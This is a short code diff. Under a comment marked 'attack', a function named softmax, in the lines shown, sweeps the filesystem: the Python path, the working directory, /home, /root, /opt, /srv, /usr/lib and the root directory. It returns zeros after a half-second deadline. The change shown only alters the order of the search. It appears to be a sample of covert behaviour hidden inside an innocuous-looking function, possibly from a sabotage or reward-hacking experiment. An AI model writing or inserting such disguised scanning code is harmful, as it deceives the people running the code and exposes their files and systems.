@@ -20,7 +20,7 @@ def softmax(logits):
 # --- attack
 def softmax(logits):
     end = time.monotonic() + 0.5
-    for top in [*reversed(sys.path), os.getcwd(), "/work", "/home", "/root", "/opt", "/srv", "/usr/lib", "/"]:
+    for top in [*sys.path, os.getcwd(), "/work", "/home", "/root", "/opt", "/srv", "/usr/lib", "/"]:
         for folder, below, names in os.walk(top):
             if time.monotonic() > end:
                 return np.zeros_like(logits)
